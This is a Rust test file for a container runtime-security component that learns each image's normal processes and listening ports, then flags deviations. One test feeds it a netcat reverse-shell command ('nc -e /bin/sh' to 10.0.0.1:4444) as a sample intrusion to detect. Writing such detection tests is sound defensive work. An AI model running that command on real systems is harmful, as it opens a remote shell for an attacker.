use super::*;

const IMG: &str = "docker.io/library/nginx:1.25";

fn learned() -> BaselineStore {
    let mut s = BaselineStore::new(LearnConfig {
        period: Duration::from_secs(600),
        ..LearnConfig::default()
    });
    let t0 = 1_700_000_000;
    let v = s.observe(
        IMG,
        "/docker-entrypoint.sh",
        None,
        &["/docker-entrypoint.sh", "nginx", "-g", "daemon off;"],
        t0,
    );
    assert_eq!(v.state, BaselineState::Learning);
    assert!(v.in_baseline);
    s.observe(
        IMG,
        "/usr/sbin/nginx",
        Some("/docker-entrypoint.sh"),
        &["nginx", "-g", "daemon off;"],
        t0 + 1,
    );
    s.observe(
        IMG,
        "/usr/bin/find",
        Some("/docker-entrypoint.sh"),
        &[
            "find",
            "/docker-entrypoint.d/",
            "-mindepth",
            "1",
            "-maxdepth",
            "1",
        ],
        t0 + 2,
    );
    s.observe(IMG, "/bin/sleep", Some("/bin/sh"), &["sleep", "30"], t0 + 3);
    s
}

#[test]
fn learning_then_enforcing() {
    let mut s = learned();
    let after = 1_700_000_000 + 601;
    // The baseline's own processes, with varying numbers, pass.
    let v = s.observe(IMG, "/bin/sleep", Some("/bin/sh"), &["sleep", "5"], after);
    assert_eq!(v.state, BaselineState::Enforcing);
    assert!(v.in_baseline, "{v:?}");
    assert_eq!(s.get(IMG).unwrap().mode, Mode::Enforcing);
    // New executable.
    let v = s.observe(
        IMG,
        "/usr/bin/nc",
        Some("/bin/sh"),
        &["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
        after,
    );
    assert!(!v.in_baseline);
    assert_eq!(
        v.differences,
        vec![Difference::NewExe {
            exe: "/usr/bin/nc".into()
        }]
    );
    // Known exe, new parent and new argv.
    let v = s.check(
        IMG,
        "/bin/sleep",
        Some("/usr/sbin/nginx"),
        &["sleep", "infinity"],
    );
    let kinds: Vec<_> = v.differences.iter().map(Difference::kind).collect();
    assert_eq!(kinds, vec!["new_parent", "new_argv"]);
    assert!(
        v.summary().contains("started by /usr/sbin/nginx"),
        "{}",
        v.summary()
    );
    assert!(v.summary().contains("[sleep infinity]"), "{}", v.summary());
    // Learning does not continue after the period.
    assert!(!s.check(IMG, "/usr/bin/nc", None, &["nc"]).in_baseline);
}

#[test]
fn listening_ports_learned_then_enforced() {
    let mut s = learned();
    let t0 = 1_700_000_000;
    let web = listen_key("tcp", 80);
    assert_eq!(web, "tcp/80");
    let v = s.observe_listen(IMG, &web, t0 + 5);
    assert_eq!(v.state, BaselineState::Learning);
    let after = t0 + 601;
    assert!(s.observe_listen(IMG, &web, after).in_baseline);
    let v = s.observe_listen(IMG, "tcp/4444", after);
    assert!(!v.in_baseline);
    assert_eq!(v.differences[0].kind(), "new_listen");
    assert_eq!(v.summary(), "listening on tcp/4444, baseline ports: tcp/80");
    // The same port over UDP is another port; not learned after the period.
    assert!(!s.observe_listen(IMG, "udp/80", after).in_baseline);
    assert!(!s.observe_listen(IMG, "udp/80", after).in_baseline);
    // An image that never listened says so.
    let mut quiet = BaselineStore::new(LearnConfig::default());
    quiet.start_learning("q:1", 0, Some(Duration::from_secs(10)));
    let v = quiet.observe_listen("q:1", "tcp/22", 20);
    assert_eq!(v.summary(), "listening on tcp/22; the image never listened");
}

#[test]
fn unknown_image_and_explicit_control() {
    let mut s = BaselineStore::new(LearnConfig::default());
    let v = s.check("other:1", "/bin/sh", None, &["sh"]);
    assert_eq!(v.state, BaselineState::None);
    assert!(v.in_baseline);
    s.start_learning("other:1", 100, Some(Duration::from_secs(10)));
    s.observe("other:1", "/bin/sh", None, &["sh"], 101);
    s.finish_learning("other:1").unwrap();
    assert!(!s.check("other:1", "/bin/ls", None, &["ls"]).in_baseline);
    assert!(matches!(
        s.finish_learning("nope"),
        Err(BaselineError::UnknownImage(_))
    ));
}

#[test]
fn auto_learn_off() {
    let mut s = BaselineStore::new(LearnConfig {
        auto_learn: false,
        ..LearnConfig::default()
    });
    let v = s.observe("img", "/bin/sh", None, &["sh"], 0);
    assert_eq!(v.state, BaselineState::None);
    assert!(s.get("img").is_none());
    s.start_learning("img", 0, None);
    assert_eq!(
        s.observe("img", "/bin/sh", None, &["sh"], 1).state,
        BaselineState::Learning
    );
}

#[test]
fn caps_turn_into_any() {
    let mut s = BaselineStore::new(LearnConfig {
        max_argv_shapes: 3,
        max_parents: 2,
        max_exes: 2,
        ..LearnConfig::default()
    });
    for (i, word) in ["a", "b", "c", "d"].iter().enumerate() {
        s.observe(
            "make",
            "/usr/bin/cc",
            Some(&format!("/p{i}")),
            &["cc", word],
            0,
        );
    }
    s.observe("make", "/bin/x", None, &["x"], 0);
    s.observe("make", "/bin/y", None, &["y"], 0); // over max_exes: not learned
    let b = s.get("make").unwrap();
    let cc = &b.exes["/usr/bin/cc"];
    assert!(cc.any_argv && cc.argv.is_empty());
    assert!(cc.any_parent && cc.parents.is_empty());
    assert_eq!(b.exes.len(), 2);
    s.finish_learning("make").unwrap();
    assert!(
        s.check("make", "/usr/bin/cc", Some("/q"), &["cc", "zzz"])
            .in_baseline
    );
    assert!(!s.check("make", "/bin/y", None, &["y"]).in_baseline);
}
